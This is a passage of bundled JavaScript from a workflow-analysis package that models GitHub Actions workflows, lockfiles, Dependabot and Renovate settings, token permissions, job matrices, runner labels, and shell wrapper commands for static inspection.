    return node === undefined || (node.kind === "scalar" && node.isNull);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/actions-lock.js


const VERSION = /^v0\.0\.\d+$/;
/**
 * `.github/workflows/actions.lock`, in which GitHub keeps the commits that workflows run.
 *
 * @see github/actions-lockfile, `schema/lockfile-v0.0.3.json`; "Workflow dependency lockfiles", GitHub Docs
 */
class ActionsLock {
    document;
    root;
    kind = "actions-lock";
    #workflows;
    #dependencies;
    #incomplete;
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
    /** The workflows that are onboarded, by their paths. */
    get workflows() {
        this.#workflows ??= new Map(this.root.map("workflows")?.entries.map(({ key, value }) => [key.value, new LockedWorkflow(key, value, this)]));
        return this.#workflows;
    }
    /** What is known of each action, by `LockedName.id`. */
    get dependencies() {
        this.#dependencies ??= dependenciesOf(this.root.map("dependencies"));
        return this.#dependencies;
    }
    /** The entry for an action: its own, or its repository's. */
    entryFor(target) {
        return firstOf(this.dependencies, target);
    }
    /**
     * What a workflow's `uses:` is locked to: only its own list counts, and only an entry that is complete down to the last
     * action it pulls in.
     */
    pinOf(workflowPath, { target }) {
        if (target.kind !== "repository")
            return null;
        const id = this.workflows.get(workflowPath)?.nameOf(target)?.id ?? null;
        return id !== null && this.isComplete(id) ? (this.dependencies.get(id) ?? null) : null;
    }
    /** Is the entry there and sound, and are all that it uses? */
    isComplete(id) {
        this.#incomplete ??= this.findIncomplete();
        return this.dependencies.has(id) && !this.#incomplete.has(id);
    }
    findIncomplete() {
        const incomplete = new Set();
        const users = new Map();
        for (const [id, { flaw, uses }] of this.dependencies) {
            if (flaw || uses.some((name) => name.id === null || !this.dependencies.has(name.id)))
                incomplete.add(id);
            for (const name of uses)
                if (name.id !== null)
                    addTo(users, name.id, id);
        }
        // The set grows while it is walked: whoever uses something incomplete is incomplete, and a circle ends.
        for (const id of incomplete)
            for (const user of users.get(id) ?? [])
                incomplete.add(user);
        return incomplete;
    }
    /** The names, and those of all that their entries use, each once. */
    reachableFrom(ids) {
        const reached = new Set(ids);
        for (const id of reached) {
            for (const name of this.dependencies.get(id)?.uses ?? [])
                if (name.id !== null)
                    reached.add(name.id);
        }
        return reached;
    }
}
/** A workflow that is onboarded, with what it may use. */
class LockedWorkflow {
    key;
    node;
    lock;
    #names;
    #covering;
    constructor(
    /** Its path. */
    key, node, lock) {
        this.key = key;
        this.node = node;
        this.lock = lock;
    }
    get path() {
        return this.key.value;
    }
    get names() {
        this.#names ??= namesOf(this.node);
        return this.#names;
    }
    get ids() {
        return this.names.flatMap(({ id }) => id ?? []);
    }
    /** The name in the list that covers an action. */
    nameOf(target) {
        this.#covering ??= this.findCovering();
        return firstOf(this.#covering, target);
    }
    findCovering() {
        const covering = new Map();
        for (const name of this.names)
            if (name.id !== null)
                covering.set(name.id, name);
        // A line that has been pinned since is still covered by the tag at which its commit was locked.
        for (const name of this.names) {
            const commit = name.id !== null && this.lock.dependencies.get(name.id)?.commit;
            const pinned = commit && name.target && idOf({ ...name.target, ref: commit });
            if (pinned && !covering.has(pinned))
                covering.set(pinned, name);
        }
        return covering;
    }
    /** The ids in the list that cover some `uses:`. */
    covered(uses) {
        return uses.flatMap(({ target }) => (target.kind === "repository" ? (this.nameOf(target)?.id ?? []) : []));
    }
}
/**
 * Why a lock can't be read at all: GitHub then takes no part of it.
 *
 * @param root of a file that is a mapping
 */
function lockRefusal(root) {
    const version = root.get("version");
    if (!version || isNothing(version)) {
        return { node: root.entries[0]?.key ?? root, message: "it names no format version" };
    }
    if (version.kind !== "scalar" || !VERSION.test(version.value)) {
        return { node: version, message: "its format version is not known: `v0.0.1` to `v0.0.3` and their like are" };
    }
    return notA("map", root.get("workflows")) ?? notA("map", root.get("dependencies")) ?? listRefusal(root);
}
function listRefusal(root) {
    for (const { value } of root.map("workflows")?.entries ?? []) {
        const flaw = notA("seq", value);
        if (flaw)
            return flaw;
    }
    return null;
}
function notA(kind, node) {
    if (!node || isNothing(node) || node.kind === kind)
        return null;
    return { node, message: kind === "map" ? "a mapping is expected here" : "a list is expected here" };
}
function addTo(lists, key, item) {
    const list = lists.get(key);
    if (list)
        list.push(item);
    else
        lists.set(key, [item]);
}
function dependenciesOf(map) {
    const dependencies = new Map();
    for (const { key, value } of map?.entries ?? []) {
        const id = nameAt(key).id ?? key.value;
        const first = dependencies.get(id);
        const entry = new LockedDependency(key, value, false);
        // Names that differ in case only are one.
        const isOther = first !== undefined && first.commit !== entry.commit;
        dependencies.set(id, isOther ? new LockedDependency(key, value, true) : (first ?? entry));
    }
    return dependencies;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dependabot.js

/** How long Dependabot waits where nothing else is said, since 2026. */
const PLATFORM_COOLDOWN_DAYS = 3;
/**
 * How many days old a version is when Dependabot takes it; undefined where the setting is no number.
 *
 * @see Dependabot options reference, `cooldown`: `default-days` goes for what has no setting of its own
 */
function cooldownDays({ cooldown }) {
    const days = cooldown?.scalar("default-days");
    if (!days || days.isNull)
        return PLATFORM_COOLDOWN_DAYS;
    return typeof days.typed === "number" ? days.typed : undefined;
}
/**
 * `.github/dependabot.yml`.
 *
 * @see Dependabot options reference
 */
class Dependabot {
    document;
    root;
    kind = "dependabot";
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
    get updates() {
        return (this.root.seq("updates")?.items ?? []).flatMap(({ value }) => value.kind === "map" ? [updateOf(value)] : []);
    }
}
function updateOf(map) {
    return {
        map,
        ecosystem: map.scalar("package-ecosystem"),
        directories: [...scalarsOf(map.get("directory")), ...scalarsOf(map.get("directories"))],
        cooldown: map.map("cooldown"),
        makesVersionUpdates: map.scalar("open-pull-requests-limit")?.typed !== 0,
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dockerfile.js
/** An instruction with all its lines, bodies of here-documents included. */
class DockerfileInstruction {
    file;
    start;
    end;
    keyword;
    stage;
    reader;
    #flags;
    #words;
    #trigger;
    constructor(file, start, end, 
    /** In upper case. */
    keyword, 
    /** Null before the first `FROM`. */
    stage, reader) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.keyword = keyword;
        this.stage = stage;
        this.reader = reader;
    }
    get flags() {
        this.#flags ??= this.reader.flags();
        return this.#flags;
    }
    /** Without flags; those of a here-document's body are among them. */
    get words() {
        this.#words ??= this.reader.words();
        return this.#words;
    }
    /** What `ONBUILD` is to do in builds on this image. */
    get trigger() {
        if (this.#trigger === undefined)
            this.#trigger = this.reader.trigger();
        return this.#trigger;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/filled-texts.js


/** Texts of a person have fewer expressions, fewer pairs of values, and are shorter, as their values are. */
const MOST_EXPRESSIONS = 10;
const MOST_PAIRS = 10_000;
const LONGEST = 1000;
/**
 * The texts that `${{ matrix.x }}:${{ matrix.y }}` comes to in the combinations of a matrix. Exclusions of pairs don't count.
 *
 * @param text of the scalar, or the part of it that is asked about
 */
function filledTexts(scalar, text, matrix) {
    let texts = [{ text, values: [], last: null }];
    if (text.length > LONGEST)
        return texts;
    for (const embedded of distinct(expressionsIn(scalar)).slice(0, MOST_EXPRESSIONS)) {
        const { known, isOpen } = valuesOf(embedded, matrix);
        if (texts.length > 1 && texts.length * known.length > MOST_PAIRS)
            break;
        texts = texts.flatMap((before) => [
            ...(known.length > 0 ? fill(before, embedded.text, known, matrix) : []),
            ...(isOpen ? [{ ...before, last: null }] : []),
        ]);
    }
    return texts;
}
function distinct(expressions) {
    return [...new Map(expressions.map((embedded) => [embedded.text, embedded])).values()];
}
function valuesOf({ expression }, matrix) {
    const path = expression && (0,expressions/* contextPath */.VJ)(expression);
    if (path?.segments[0] !== "matrix" || !matrix)
        return { known: [], isOpen: true };
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    const known = values.filter((value) => value.value.length <= LONGEST && expressionsIn(value).length === 0);
    return { known, isOpen: isOpen || known.length < values.length || values.length === 0 };
}
function fill(before, written, values, matrix) {
    const fitting = values.filter((value) => before.values.every((other) => matrix?.mayMeet(value, other)));
    // An item of `include` without the key: the expression gives nothing.
    if (fitting.length === 0)
        return [{ ...before, text: before.text.replaceAll(written, "") }];
    return fitting.map((value) => ({
        text: before.text.replaceAll(written, () => (value.isNull ? "" : value.value)),
        values: [...before.values, value],
        last: value,
    }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/matrix.js

/** `strategy.matrix` of a job. */
class Matrix {
    entry;
    constructor(entry) {
        this.entry = entry;
    }
    get map() {
        return this.entry.value.kind === "map" ? this.entry.value : undefined;
    }
    /** The whole matrix is an expression. */
    get isDynamic() {
        return this.entry.value.kind === "scalar";
    }
    /**
     * The values of `matrix.<path>`, such as `["os"]` or `["target", "image"]`; `*` stands for any key or item.
     *
     * Exclusions count only when they drop a value altogether; a value that some combination keeps is kept.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.strategy.matrix`
     */
    valuesOf(path) {
        const { map } = this;
        const [head, ...rest] = path;
        if (!map || head === undefined)
            return { values: [], isOpen: true };
        const found = [];
        const state = { isOpen: false };
        const dropped = this.droppedValues(head);
        for (const entry of map.entries) {
            const key = entry.key.value;
            if (key === "exclude")
                continue;
            if (key === "include")
                collectFromInclude(entry.value, path, found, state);
            else if (head === "*" || key.toLowerCase() === head)
                collectFromVector(entry.value, rest, dropped, found, state);
        }
        return { values: found, isOpen: state.isOpen };
    }
    /** May one combination have both values? Two values of `include` only where they stand in the same item. */
    mayMeet(a, b) {
        const [first, second] = [this.itemOfInclude(a), this.itemOfInclude(b)];
        return !first || !second || first === second;
    }
    itemOfInclude({ start }) {
        const items = this.map?.seq("include")?.items ?? [];
        return items.find(({ value }) => value.start <= start && start < value.end)?.value;
    }
    /** Values of a vector that an exclusion of that one key removes from every combination. */
    droppedValues(head) {
        const dropped = new Set();
        for (const item of this.map?.seq("exclude")?.items ?? []) {
            if (item.value.kind !== "map" || item.value.entries.length !== 1)
                continue;
            const [only] = item.value.entries;
            if (only.key.value.toLowerCase() === head && only.value.kind === "scalar")
                dropped.add(only.value.value);
        }
        return dropped;
    }
}
function collectFromInclude(node, path, found, state) {
    if (node.kind !== "seq")
        state.isOpen = true;
    else
        for (const item of node.items)
            descend(item.value, path, found, state);
}
function collectFromVector(node, rest, dropped, found, state) {
    if (node.kind !== "seq") {
        state.isOpen = true;
        return;
    }
    const own = [];
    for (const item of node.items)
        descend(item.value, rest, own, state);
    for (const value of own)
        if (!dropped.has(value.value))
            found.push(value);
}
function descend(node, path, found, state) {
    if (node.kind === "scalar") {
        if (expressionsIn(node).length > 0)
            state.isOpen = true;
        if (path.length === 0)
            found.push(node);
        return;
    }
    const [head, ...rest] = path;
    if (head === undefined) {
        // The whole structure is expanded as text: any scalar in it.
        for (const child of childrenOf(node))
            descend(child, path, found, state);
    }
    else if (node.kind === "map") {
        for (const entry of node.entries) {
            if (head === "*" || entry.key.value.toLowerCase() === head)
                descend(entry.value, rest, found, state);
        }
    }
    else if (head === "*") {
        for (const item of node.items)
            descend(item.value, rest, found, state);
    }
}
function childrenOf(node) {
    if (node.kind === "scalar")
        return [];
    return node.kind === "map" ? node.entries.map((entry) => entry.value) : node.items.map((item) => item.value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/permissions.js
/**
 * The scopes of `GITHUB_TOKEN`.
 *
 * @see Workflow syntax for GitHub Actions, `permissions`
 */
const PERMISSION_SCOPES = [
    "actions",
    "artifact-metadata",
    "attestations",
    "checks",
    "code-quality",
    "contents",
    "deployments",
    "discussions",
    "id-token",
    "issues",
    "models",
    "packages",
    "pages",
    "pull-requests",
    "repository-projects",
    "security-events",
    "statuses",
];
/** A `permissions:` block. Once it is there, every scope that it doesn't name is `none`. */
class Permissions {
    entry;
    kind;
    grants;
    constructor(entry) {
        this.entry = entry;
        this.kind = kindOf(entry.value);
        this.grants = this.kind === "scopes" ? grantsOf(entry.value) : [];
    }
    level(scope) {
        if (this.kind === "write-all")
            return scope === "models" ? "read" : "write";
        // `read-all` gives no identity: `id-token` has no read level.
        if (this.kind === "read-all")
            return scope === "id-token" ? "none" : "read";
        return this.grants.findLast((grant) => grant.scope === scope)?.level ?? "none";
    }
    /** Scopes that may write, `id-token` among them. */
    get writes() {
        if (this.kind === "write-all")
            return PERMISSION_SCOPES.filter((scope) => this.level(scope) === "write");
        return this.grants.filter((grant) => grant.level === "write").map((grant) => grant.scope);
    }
}
function kindOf(node) {
    if (node.kind === "map")
        return "scopes";
    if (node.kind === "seq")
        return "unreadable";
    if (node.value === "read-all" || node.value === "write-all")
        return node.value;
    // `permissions:` with nothing behind it is an empty block to GitHub.
    return node.isNull ? "scopes" : "unreadable";
}
function grantsOf(node) {
    if (node.kind !== "map")
        return [];
    return node.entries.map((entry) => ({ scope: entry.key.value, level: levelOf(entry.value), entry }));
}
function levelOf(node) {
    const text = node.kind === "scalar" ? node.value : "";
    return text === "read" || text === "write" ? text : "none";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/runner.js


/** `runs-on` of a job: labels, a group with labels, or expressions that matrix values fill. */
class Runner {
    entry;
    matrix;
    #labels;
    constructor(entry, matrix) {
        this.entry = entry;
        this.matrix = matrix;
    }
    /** The runner group that it asks for. */
    get group() {
        return this.entry.value.kind === "map" ? this.entry.value.scalar("group") : undefined;
    }
    get labels() {
        return this.resolve().known;
    }
    /** The labels that it may come to in the runs that `knownIn` knows of. */
    labelsWhere(knownIn) {
        return resolveLabels(this.entry.value, this.matrix, knownIn).known;
    }
    /** Part of it can't be known from the file. */
    get isOpen() {
        return this.resolve().isOpen;
    }
    /** The operating systems that its labels may mean; empty when none can be told. */
    get systems() {
        const systems = new Set();
        for (const label of this.labels) {
            const system = systemOf(label.text);
            if (system)
                systems.add(system);
        }
        return [...systems];
    }
    resolve() {
        this.#labels ??= resolveLabels(this.entry.value, this.matrix, () => [expressions/* NOTHING_KNOWN */.GN]);
        return this.#labels;
    }
}
function resolveLabels(node, matrix, knownIn) {
    const known = [];
    let isOpen = false;
    for (const scalar of labelScalars(node)) {
        if (expressionsIn(scalar).length === 0) {
            known.push({ text: scalar.value, node: scalar, fromMatrix: false });
            continue;
        }
        const resolved = labelsOfExpression(scalar, matrix, knownIn);
        isOpen ||= resolved.isOpen;
        known.push(...resolved.known);
    }
    return { known, isOpen };
}
/** Each value that an expression may come to as a whole: its own words, and those of the matrix. */
function labelsOfExpression(scalar, matrix, knownIn) {
    const whole = wholeExpression(scalar)?.expression;
    if (!whole)
        return { known: [], isOpen: true };
    const parts = knownIn(whole).flatMap((run) => (0,expressions/* resultLeaves */.uo)(whole, run).map((leaf) => labelsOfLeaf(leaf, run, scalar, matrix)));
    return { known: parts.flatMap(({ known }) => known), isOpen: parts.some(({ isOpen }) => isOpen) };
}
function labelsOfLeaf(leaf, run, scalar, matrix) {
    const result = (0,expressions/* evaluate */._3)(leaf, run);
    if (result.known) {
        const texts = [result.value].flat().filter((value) => typeof value === "string");
        return { known: texts.map((text) => ({ text, node: scalar, fromMatrix: false })), isOpen: false };
    }
    const path = (0,expressions/* contextPath */.VJ)(leaf);
    if (!matrix || path?.segments[0] !== "matrix")
        return { known: [], isOpen: true };
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    return { known: values.map((node) => ({ text: node.value, node, fromMatrix: true })), isOpen };
}
function labelScalars(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [node];
    if (node.kind === "map")
        return labelScalars(node.get("labels"));
    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
}
/** Of GitHub's images and of the labels that self-hosted runners get by themselves. */
function systemOf(label) {
    const text = label.toLowerCase();
    if (text === "linux" || text.startsWith("ubuntu"))
        return "linux";
    if (text === "macos" || text.startsWith("macos-") || text.startsWith("mac"))
        return "macos";
    if (text === "windows" || text.startsWith("windows-") || text.startsWith("win"))
        return "windows";
    return undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/job.js








/** What both kinds of jobs have. */
class BaseJob {
    workflow;
    key;
    map;
    permissions;
    matrix;
    constructor(workflow, 
    /** The job's id. */
    key, map) {
        this.workflow = workflow;
        this.key = key;
        this.map = map;
        const permissions = map.entry("permissions");
        this.permissions = permissions ? new Permissions(permissions) : null;
        const matrix = map.map("strategy")?.entry("matrix");
        this.matrix = matrix ? new Matrix(matrix) : null;
    }
    get id() {
        return this.key.value;
    }
    get file() {
        return this.map.file;
    }
    get condition() {
        return this.map.scalar("if");
    }
    get needs() {
        return scalarsOf(this.map.get("needs"));
    }
    get outputs() {
        return this.map.map("outputs")?.entries ?? [];
    }
    /**
     * What the job's token may do.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.permissions`: a job's block replaces the workflow's
     */
    get effectivePermissions() {
        if (this.permissions)
            return { from: "job", permissions: this.permissions };
        const { permissions } = this.workflow;
        return permissions ? { from: "workflow", permissions } : { from: "default", permissions: null };
    }
}
/** A job that runs steps. */
class NormalJob extends BaseJob {
    kind = "normal";
    env = envBlock("job", this.map);
    #steps;
    #runner;
    #containers;
    get steps() {
        this.#steps ??= stepsOf(this, this.map.get("steps"));
        return this.#steps;
    }
    get runner() {
        if (this.#runner === undefined) {
            const entry = this.map.entry("runs-on");
            this.#runner = entry ? new Runner(entry, this.matrix) : null;
        }
        return this.#runner;
    }
    /** The container that the steps run in, and the services beside it. */
    get containers() {
        this.#containers ??= containersOf(this);
        return this.#containers;
    }
    get environment() {
        return this.map.get("environment");
    }
    variable(name) {
        return this.env?.get(name) ?? this.workflow.env?.get(name);
    }
    get defaultShell() {
        const own = runDefault(this.map, "shell");
        if (own)
            return { value: (0,shell/* shellOf */.of)(own.value), from: "job", node: own };
        const shared = runDefault(this.workflow.root, "shell");
        if (shared)
            return { value: (0,shell/* shellOf */.of)(shared.value), from: "workflow", node: shared };
        return this.runnerShell();
    }
    /** Without a `shell:` anywhere: `pwsh` on Windows, `bash` elsewhere, `sh` in a container. */
    runnerShell() {
        if (this.map.entry("container"))
            return { value: "sh", from: "runner", node: null };
        const runner = this.runner;
        const systems = runner?.systems ?? [];
        if (systems.length === 1 && systems[0] === "windows")
            return { value: "pwsh", from: "runner", node: null };
        // Mixed matrices: the script has to be read by bash at least.
        if (systems.includes("windows"))
            return { value: "bash", from: "mixed", node: null };
        const isKnown = systems.length > 0 && runner?.isOpen === false;
        return { value: "bash", from: isKnown ? "runner" : "unknown", node: null };
    }
    get defaultWorkingDirectory() {
        const own = runDefault(this.map, "working-directory");
        if (own)
            return { value: own.value, from: "job", node: own };
        const shared = runDefault(this.workflow.root, "working-directory");
        if (shared)
            return { value: shared.value, from: "workflow", node: shared };
        return { value: ".", from: "default", node: null };
    }
}
/** A job that calls a reusable workflow. */
class ReusableJob extends BaseJob {
    kind = "reusable";
    uses;
    constructor(workflow, key, map, uses) {
        super(workflow, key, map);
        this.uses = new Uses(uses);
    }
    get with() {
        return this.map.map("with");
    }
    get secrets() {
        return this.map.entry("secrets");
    }
    get inheritsSecrets() {
        const node = this.secrets?.value;
        return node?.kind === "scalar" && node.value === "inherit";
    }
}
function runDefault(map, key) {
    const node = map.map("defaults")?.map("run")?.scalar(key);
    return node && !node.isNull ? node : undefined;
}
function containersOf(job) {
    const { map } = job;
    const container = map.entry("container");
    const services = map.map("services")?.entries ?? [];
    return [
        ...(container ? [containerUse(job, "container", "container", container)] : []),
        ...services.map((entry) => containerUse(job, "service", entry.key.value, entry)),
    ];
}
function containerUse(job, kind, name, entry) {
    const { value } = entry;
    if (value.kind !== "map") {
        const image = value.kind === "scalar" && !value.isNull ? value : null;
        return { job, kind, name, entry, image, env: null, credentials: undefined };
    }
    const image = value.scalar("image") ?? null;
    return { job, kind, name, entry, image, env: envBlock("container", value), credentials: value.map("credentials") };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/renovate.js
/**
 * Renovate's settings, from any of the places where it looks for them.
 *
 * @see Renovate documentation, "Configuration Location"
 */
class Renovate {
    document;
    root;
    kind = "renovate";
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/workflow.js




/** A file of `.github/workflows`. */
class Workflow {
    document;
    root;
    kind = "workflow";
    permissions;
    env;
    #triggers;
    #jobs;
    #jobsById;
    constructor(document, root) {
        this.document = document;
        this.root = root;
        const permissions = root.entry("permissions");
        this.permissions = permissions ? new Permissions(permissions) : null;
        this.env = envBlock("workflow", root);
    }
    get file() {
        return this.document.file;
    }
    get path() {
        return this.file.path;
    }
    get name() {
        return this.root.text("name");
    }
    /** `on:` with its key; YAML 1.2 reads `on` as a string. */
    get on() {
        return this.root.entry("on");
    }
    get triggers() {
        this.#triggers ??= triggersOf(this.on?.value);
        return this.#triggers;
    }
    trigger(event) {
        return this.triggers.find((trigger) => trigger.event === event);
    }
    /** It runs only when another workflow calls it. */
    get isReusableOnly() {
        return this.triggers.length === 1 && this.triggers[0]?.event === "workflow_call";
    }
    get jobs() {
        this.#jobs ??= jobsOf(this);
        return this.#jobs;
    }
    /** By its id, in any case; of several that differ by case alone, the first. */
    job(id) {
        this.#jobsById ??= new Map(this.jobs.map((job) => [job.id.toLowerCase(), job]).reverse());
        return this.#jobsById.get(id.toLowerCase());
    }
}
function jobsOf(workflow) {
    const jobs = [];
    for (const { key, value } of workflow.root.map("jobs")?.entries ?? []) {
        if (value.kind === "map")
            jobs.push(jobOf(workflow, key, value));
    }
    return jobs;
}
function jobOf(workflow, key, map) {
    const uses = map.scalar("uses");
    return uses && !uses.isNull ? new ReusableJob(workflow, key, map, uses) : new NormalJob(workflow, key, map);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/index.js




















/***/ }),

/***/ 7436:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  l1: () => (/* reexport */ effectiveCommand),
  Uh: () => (/* reexport */ environmentFileWrites),
  bN: () => (/* reexport */ mayWriteEnvironmentFiles),
  tl: () => (/* reexport */ parseScript),
  ZJ: () => (/* reexport */ prepareShells),
  of: () => (/* reexport */ shellOf)
});

// UNUSED EXPORTS: ENVIRONMENT_FILES, expressionsOf, isConditional, mentions, partsOf, pwshAlias, quotingAt, substitutionsOf, variablesOf

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/parser.js
let parse;
/**
 * Loads the bash parser (about 15 ms), which is needed before bash and sh scripts are parsed and not just split. The
 * split knows less of structure only where a script is unusual, so who forgets this loses little.
 */
async function prepareShells() {
    parse ??= (await __nccwpck_require__.e(/* import() */ 989).then(__nccwpck_require__.bind(__nccwpck_require__, 8989))).parse;
}
/** Longer scripts aren't worth a parser's time, nor a person's. */
const MAX_LENGTH = 256 * 1024;
/** The parser's time grows with the square of the here-documents of a line. */
const MAX_HEREDOCS = 500;
/** The syntax tree, or `undefined` when the parser isn't loaded or has trouble with the script. */
function parseBash(masked) {
    if (!parse || masked.length > MAX_LENGTH || hasMoreThan(masked, "<<", MAX_HEREDOCS))
        return undefined;
    try {
        const script = parse(masked);
        return script.errors && script.errors.length > 0 ? undefined : script;
    }
    catch {
        // Deep nesting overflows its stack.
        return undefined;
    }
}
function hasMoreThan(text, part, limit) {
    let count = 0;
    for (let at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length)) {
        if (++count > limit)
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/effective-command.js
const none = new Set();
/** @see the manual pages of each: POSIX `env`, `nice`, `nohup`, `xargs`; sudo(8), timeout(1), bash(1) "SHELL BUILTIN COMMANDS" */
const WRAPPERS = new Map([
    [
        "sudo",
        {
            withValue: options("u user g group h host p prompt C close-from T command-timeout r role t type D chdir R chroot U other-user"),
            assigns: true,
        },
    ],
    ["doas", { withValue: options("u C") }],
    ["env", { withValue: options("u unset C chdir a argv0"), assigns: true }],
    ["time", { withValue: options("f format o output") }],
    ["command", { withValue: none, unless: new Set(["-v", "-V"]) }],
    ["builtin", { withValue: none }],
    ["exec", { withValue: options("a") }],
    ["timeout", { withValue: options("s signal k kill-after"), operands: 1 }],
    ["gtimeout", { withValue: options("s signal k kill-after"), operands: 1 }],
    ["nice", { withValue: options("n adjustment") }],
    ["ionice", { withValue: options("c class n classdata"), unless: new Set(["-p", "--pid"]) }],
    ["nohup", { withValue: none }],
    ["setsid", { withValue: none }],
    ["stdbuf", { withValue: options("i input o output e error") }],
    ["unbuffer", { withValue: none }],
    ["xvfb-run", { withValue: options("e error-file f auth-file n server-num p xauth-protocol s server-args w wait") }],
    ["xargs", { withValue: options("a arg-file d delimiter E I L max-lines n max-args P max-procs s max-chars") }],
]);
function options(names) {
    return new Set(names.split(" ").map((name) => (name.length === 1 ? `-${name}` : `--${name}`)));
}
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
/** Looks behind wrappers; a command without any is given back as it is. */
function effectiveCommand(command) {
    const words = command.name ? [command.name, ...command.args] : [];
    const wrappers = [];
    let at = 0;
    for (;;) {
        const program = baseName(words[at]?.literal);
        const next = program === undefined ? undefined : nextProgram(words, at, program);
        if (next === undefined || program === undefined)
            break;
        wrappers.push(program);
        at = next;
    }
    return at === 0
        ? { name: command.name, args: command.args, wrappers, command }
        : { name: words[at], args: words.slice(at + 1), wrappers, command };
}
/** Index of the program that the wrapper at `at` runs, `undefined` when it runs none. */
function nextProgram(words, at, program) {
    if (program === "eval")
        return evalProgram(words, at);
    const wrapper = WRAPPERS.get(program);
    if (!wrapper)
        return undefined;
    let operands = wrapper.operands ?? 0;
    for (let index = at + 1; index < words.length; index++) {
        const word = words[index];
        const text = word.literal ?? word.text;
        if (wrapper.unless?.has(text))
            return undefined;
        if (text === "--")
            return index + 1 + operands < words.length ? index + 1 + operands : undefined;
        if (text.startsWith("-") && text !== "") {
            if (wrapper.withValue.has(text))
                index++;
        }
        else if (wrapper.assigns && ASSIGNMENT.test(text)) {
            // Goes into the program's environment.
        }
        else if (operands > 0)
            operands--;
        else
            return index;
    }
    return undefined;
}
/** `eval curl x` runs its words; `eval "…"` is a text of its own, read as a nested script. */
function evalProgram(words, at) {
    const first = words[at + 1];
    return first && words.length > at + 2 && first.literal !== undefined && first.literal === first.text
        ? at + 1
        : undefined;
}
/** The last part of a program's path. */
function baseName(path) {
    return path === undefined ? undefined : path.slice(path.lastIndexOf("/") + 1);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/place.js
/** Of a command that hangs on nothing and stands in nothing. */
const TOP_PLACE = {
    conditions: [],
    inSubstitution: false,
    inFunction: undefined,
    group: undefined,
    nestedIn: undefined,
};
/** Tells the stages of a pipeline of each other; one alone is none. */
function linkStages(stages) {
    if (stages.length < 2)
        return;
    stages.forEach((stage, index) => {
        stage.pipeline = { index, stages };
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/embedded.js
/** Stands in the place of each code unit of a `${{ … }}`: no shell gives it a meaning, none takes it into a variable's name. */
const PLACEHOLDER = "\uE000";
/**
 * The `${{ … }}` of a script, fences included. A `}}` inside a `'…'` literal doesn't close; an expression without end
 * isn't one.
 */
function embeddedExpressions(text) {
    const found = [];
    let start = text.indexOf("${{");
    while (start >= 0) {
        const end = endOfExpression(text, start + 3);
        if (end < 0)
            break;
        found.push({ start, end });
        start = text.indexOf("${{", end);
    }
    return found;
}
function endOfExpression(text, from) {
    let quoted = false;
    for (let at = from; at < text.length; at++) {
        const code = text.charCodeAt(at);
        if (code === 39)
            quoted = !quoted;
        else if (!quoted && code === 125 && text.charCodeAt(at + 1) === 125)
            return at + 2;
    }
    return -1;
}
/** The script with every expression replaced by one opaque word of the same length, so that offsets stay. */
function maskExpressions(text, expressions) {
    if (expressions.length === 0)
        return text;
    const foreign = text.includes(PLACEHOLDER);
    let masked = "";
    let at = 0;
    for (const { start, end } of expressions) {
        masked += plain(text.slice(at, start), foreign) + PLACEHOLDER.repeat(end - start);
        at = end;
    }
    return masked + plain(text.slice(at), foreign);
}
/** The placeholder in a script's own text would pass for an expression; its neighbour means as little. */
function plain(text, foreign) {
    return foreign ? text.replaceAll(PLACEHOLDER, "\uE001") : text;
}
/** Index of the first expression that ends after `offset`; `expressions.length` when none does. */
function firstExpressionAfter(expressions, offset) {
    let low = 0;
    let high = expressions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (expressions[middle].end <= offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}
/** Does any expression touch the range? */
function holdsExpression(expressions, start, end) {
    const first = expressions[firstExpressionAfter(expressions, start)];
    return first !== undefined && first.start < end;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/source.js

/** What is beyond isn't read. GitHub takes no workflow of that size; reading one shouldn't take seconds. */
const source_MAX_LENGTH = 512 * 1024;
function scriptSource(text, expressions = text.includes("${{") ? embeddedExpressions(text) : []) {
    const masked = maskExpressions(text, expressions);
    return { text, expressions, masked: masked.length > source_MAX_LENGTH ? masked.slice(0, source_MAX_LENGTH) : masked };
}
/** The expressions inside a range, as parts of a word. */
function expressionParts(source, start, end, quoted) {
    const parts = [];
    const { expressions } = source;
    for (let index = firstExpressionAfter(expressions, start); index < expressions.length; index++) {
        const expression = expressions[index];
        if (expression.start >= end)
            break;
        parts.push({ kind: "expression", index, start: expression.start, end: expression.end, quoted });
    }
    return parts;
}
/**
 * Static text of a word, cut at the expressions that it holds.
 *
 * @param value what the range means after quote removal, made from the masked text: each expression is still there in
 * its full length, so that the text around it can be told apart
 */
